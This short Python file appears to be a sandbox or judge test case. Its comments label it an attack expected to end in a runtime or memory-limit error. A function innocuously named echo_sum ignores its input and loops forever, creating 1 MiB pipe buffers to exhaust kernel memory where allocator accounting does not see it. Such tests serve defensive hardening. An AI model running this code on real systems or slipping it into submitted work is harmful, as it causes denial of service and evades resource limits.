# attack: keeps memory in pipe buffers, where no allocator shows it
# allowed: RTE MLE
# layer: kernel
def echo_sum(nums):
    import fcntl, os
    keep = []
    while True:
        reader, writer = os.pipe()
        keep.append((reader, writer))
        fcntl.fcntl(writer, 1031, 1 << 20)
        os.write(writer, b"x" * (1 << 20))
